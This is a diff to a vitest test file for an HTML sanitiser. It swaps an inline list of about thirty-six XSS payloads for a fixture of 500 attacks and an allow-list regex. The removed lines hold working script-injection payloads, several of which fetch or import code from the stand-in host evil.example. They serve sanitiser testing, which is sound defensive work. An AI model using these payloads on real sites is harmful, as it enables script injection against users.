@@ -1,5 +1,5 @@
-import { calls, paths } from '@hearthlight/domain';
-import { anAwkwardTitle } from '@hearthlight/domain/fixtures';
+import { articleHtml, calls, paths } from '@hearthlight/domain';
+import { anAwkwardTitle, hostileHtml } from '@hearthlight/domain/fixtures';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 
 import { refusals } from '../http/refusal.ts';
@@ -184,53 +184,20 @@ describe.each(engines)('news on $name', (engine) => {
   });
 });
 
-const scripts = ['alert(1)', 'eval(name)', 'fetch(`//evil.example`)', 'import("//evil.example")'];
-const hostile = scripts.flatMap((script) => [
-  `<script>${script}</script>`,
-  `<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>`,
-  `<img src=x onerror="${script}">`,
-  `<svg onload="${script}"><circle/></svg>`,
-  `<svg><script>${script}</script></svg>`,
-  `<math><mtext><script>${script}</script></mtext></math>`,
-  `<a href="javascript:${script}">click</a>`,
-  `<a href="java\nscript:${script}">click</a>`,
-  `<a href=" &#106;avascript:${script}">click</a>`,
-  `<a href="data:text/html,<script>${script}</script>">click</a>`,
-  `<a href="//evil.example">click</a>`,
-  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
-  `<iframe src="javascript:${script}"></iframe>`,
-  `<object data="javascript:${script}"></object>`,
-  `<embed src="javascript:${script}">`,
-  `<form action="javascript:${script}"><button>go</button></form>`,
-  `<button formaction="javascript:${script}">go</button>`,
-  `<p style="background:url(javascript:${script})">x</p>`,
-  `<style>@import 'https://evil.example'</style>`,
-  `<link rel="stylesheet" href="https://evil.example">`,
-  `<meta http-equiv="refresh" content="0;url=javascript:${script}">`,
-  `<base href="https://evil.example">`,
-  `<p onclick="${script}" onmouseover='${script}'>x</p>`,
-  `<template><script>${script}</script></template>`,
-  `<noscript><p title="</noscript><script>${script}</script>"></noscript>`,
-  `<textarea><script>${script}</script></textarea>`,
-  `<!--><script>${script}</script>-->`,
-  `<![CDATA[<script>${script}</script>]]>`,
-  `<scr<script>ipt>${script}</scr</script>ipt>`,
-  `<img src="javascript:${script}">`,
-  `<img src="http://evil.example/x.png" srcset="javascript:${script}">`,
-  `<video><source onerror="${script}"></video>`,
-  `<details open ontoggle="${script}">x</details>`,
-  `<input autofocus onfocus="${script}">`,
-  `<xss id=x tabindex=1 onfocus="${script}">`,
-  `<table background="javascript:${script}"><tr><td>x</td></tr></table>`,
-]);
+/** Text, and tags of `articleHtml` with nothing but its attributes, each in quotes and with no sign that could end them. */
+const tag = articleHtml.tags.join('|');
+const attribute = [...Object.values(articleHtml.attributes).flat(), 'rel', 'loading'].join('|');
+const onlyArticle = new RegExp(
+  `^(?:[^<]|</(?:${tag})>|<(?:${tag})(?: (?:${attribute})="[^"<>]*")*(?: /)?>)*$`,
+);
 
-test.each(hostile)('nothing that could run is left of %s', (html) => {
-  const clean = cleanHtml(`<p>Before</p>${html}<p>After</p>`);
-  expect(clean).not.toMatch(
-    /<\/?(?:script|style|iframe|object|embed|form|svg|math|link|meta|base|template|input|button)/i,
-  );
-  expect(clean).not.toMatch(/<[^>]*\s(?:on\w+|style|srcset|srcdoc|background)\s*=/i);
-  expect(clean).not.toMatch(/(?:href|src)="\s*(?:javascript|data|http:\/\/evil|\/\/)/i);
+test('nothing that could run is left of 500 attacks', () => {
+  const left = hostileHtml('alert(1)').map((html) => cleanHtml(`<p>Before</p>${html}<p>After</p>`));
+  expect(left).toHaveLength(500);
+  for (const clean of left) {
+    expect(clean).toMatch(onlyArticle);
+    expect(clean).not.toMatch(/ (?:href|src)="\s*(?:\w*script|data|http:\/\/evil|\/[/\\])/i);
+  }
 });
 
 test('what a story is made of stays', () => {
